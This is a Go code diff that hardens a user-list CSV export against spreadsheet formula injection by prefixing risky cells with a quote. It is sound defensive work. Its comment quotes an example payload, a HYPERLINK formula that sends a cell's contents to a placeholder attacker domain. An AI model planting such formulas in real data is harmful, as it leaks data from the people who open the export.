@@ -54,8 +54,23 @@ func (s userSummary) csvRecord() []string {
 	if !s.LastLoginAt.IsZero() {
 		last = s.LastLoginAt.UTC().Format(time.RFC3339)
 	}
-	return []string{s.ID, s.Username, s.Email, strconv.FormatBool(s.EmailVerified), s.Name, s.Status,
-		strings.Join(s.Roles, ","), s.CreatedAt.UTC().Format(time.RFC3339), last}
+	return []string{inertCell(s.ID), inertCell(s.Username), inertCell(s.Email), strconv.FormatBool(s.EmailVerified),
+		inertCell(s.Name), inertCell(s.Status), inertCell(strings.Join(s.Roles, ",")), s.CreatedAt.UTC().Format(time.RFC3339), last}
+}
+
+// inertCell keeps a spreadsheet from running a CSV cell as a formula. A
+// user's name and email come from the provider's claims, which the user
+// sets: a name such as =HYPERLINK("https://evil.example/?"&A2, "Open")
+// would run in the administrator's spreadsheet when the export is
+// opened. A cell that starts as a formula does (=, +, -, @, a tab or a
+// carriage return) gets a leading "'", which spreadsheets read as "text"
+// and do not show (OWASP's CSV injection advice). The JSON Lines export
+// keeps every value as stored.
+func inertCell(s string) string {
+	if s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) {
+		return "'" + s
+	}
+	return s
 }
 
 // listParams are the query parameters the list takes.
